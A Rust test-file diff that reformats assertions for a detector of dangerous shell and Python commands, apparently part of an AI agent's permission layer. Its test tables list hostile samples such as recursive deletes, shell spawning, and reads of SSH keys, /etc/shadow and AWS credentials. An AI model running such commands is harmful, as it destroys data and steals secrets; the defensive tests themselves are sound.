@@ -110,8 +110,15 @@ fn dangerous_shell_lines_are_dangerous_with_their_label() {
             },
             "{line:?}: {d:?}"
         );
-        assert_eq!(is_dangerous_shell(line).as_deref(), Some(*label), "{line:?}");
-        assert!(!d.can_always && !d.can_always_exact, "{line:?} must not be grantable");
+        assert_eq!(
+            is_dangerous_shell(line).as_deref(),
+            Some(*label),
+            "{line:?}"
+        );
+        assert!(
+            !d.can_always && !d.can_always_exact,
+            "{line:?} must not be grantable"
+        );
         assert!(d.no_always_reason.is_some(), "{line:?}");
     }
 }
@@ -139,10 +146,17 @@ fn a_dangerous_part_anywhere_in_a_line_makes_the_whole_line_dangerous() {
         ("(cd sub && rm -rf x)", RECURSIVE_DELETE),
         ("ssh host 'sudo reboot'", PRIVILEGE_ESCALATION),
         ("find . -exec sh -c 'rm -rf {}' \\;", RECURSIVE_DELETE),
-        ("python3 -c 'import shutil; shutil.rmtree(\"x\")'", python::TREE_DELETION),
+        (
+            "python3 -c 'import shutil; shutil.rmtree(\"x\")'",
+            python::TREE_DELETION,
+        ),
     ];
     for (line, label) in table {
-        assert_eq!(is_dangerous_shell(line).as_deref(), Some(*label), "{line:?}");
+        assert_eq!(
+            is_dangerous_shell(line).as_deref(),
+            Some(*label),
+            "{line:?}"
+        );
     }
 }
 
@@ -249,10 +263,26 @@ fn family_of_strips_paths_case_versions_and_assignments() {
 #[test]
 fn read_only_commands_are_auto_safe_only_by_their_bare_name() {
     let ws = workspace();
-    for line in ["ls", "pwd", "whoami", "id", "date", "uname -a", "true", "mkdir sub/new"] {
+    for line in [
+        "ls",
+        "pwd",
+        "whoami",
+        "id",
+        "date",
+        "uname -a",
+        "true",
+        "mkdir sub/new",
+    ] {
         assert!(shell_in(ws.path(), line).is_auto_safe(), "{line:?}");
     }
-    for line in ["/bin/ls", "./ls", "LS", "FOO=1 ls", "LD_PRELOAD=x.so cat a.txt", "cp a b"] {
+    for line in [
+        "/bin/ls",
+        "./ls",
+        "LS",
+        "FOO=1 ls",
+        "LD_PRELOAD=x.so cat a.txt",
+        "cp a b",
+    ] {
         let d = shell_in(ws.path(), line);
         assert_eq!(d.verdict, Verdict::Ask, "{line:?}");
     }
@@ -280,8 +310,15 @@ fn every_metacharacter_stops_auto_safe_on_the_host() {
     for line in table {
         let d = shell_in(ws.path(), line);
         assert_eq!(d.verdict, Verdict::Ask, "{line:?}: {d:?}");
-        assert!(d.reasons[0].contains("contains"), "{line:?}: {:?}", d.reasons);
-        assert!(!d.can_always, "{line:?}: a metacharacter line never gets a family grant");
+        assert!(
+            d.reasons[0].contains("contains"),
+            "{line:?}: {:?}",
+            d.reasons
+        );
+        assert!(
+            !d.can_always,
+            "{line:?}: a metacharacter line never gets a family grant"
+        );
     }
 }
 
@@ -445,7 +482,10 @@ fn dangerous_python_is_dangerous_with_its_label() {
         ("import os as o\no.system('x')", PROCESS_SPAWN),
         ("from os import system", PROCESS_SPAWN),
         ("import ctypes", PROCESS_SPAWN),
-        ("import importlib\nimportlib.import_module('os')", PROCESS_SPAWN),
+        (
+            "import importlib\nimportlib.import_module('os')",
+            PROCESS_SPAWN,
+        ),
         ("__import__('os')", PROCESS_SPAWN),
         ("import pty; pty.spawn('/bin/sh')", PROCESS_SPAWN),
         ("os.execv('/bin/sh', ['sh'])", PROCESS_SPAWN),
@@ -458,7 +498,10 @@ fn dangerous_python_is_dangerous_with_its_label() {
         ("open('log', 'a')", FILE_WRITE),
         ("open('x', 'xb')", FILE_WRITE),
         ("open('x', 'r+')", FILE_WRITE),
-        ("with open(os.path.join(d, 'f'), mode='wt') as f: pass", FILE_WRITE),
+        (
+            "with open(os.path.join(d, 'f'), mode='wt') as f: pass",
+            FILE_WRITE,
+        ),
         ("Path('x').write_text('hi')", FILE_WRITE),
         ("p.write_bytes(b'x')", FILE_WRITE),
         ("os.remove('x')", FILE_WRITE),
@@ -474,7 +517,10 @@ fn dangerous_python_is_dangerous_with_its_label() {
         ("import ftplib", DATA_UPLOAD),
         ("import paramiko", DATA_UPLOAD),
         ("requests.get(f'https://x/?k={key}')", DATA_UPLOAD),
-        ("open(os.path.expanduser('~/.ssh/id_rsa')).read()", SECRET_READ),
+        (
+            "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
+            SECRET_READ,
+        ),
         ("print(open('/etc/passwd').read())", SECRET_READ),
         ("open('/etc/shadow')", SECRET_READ),
         ("open(home + '/.aws/credentials')", SECRET_READ),
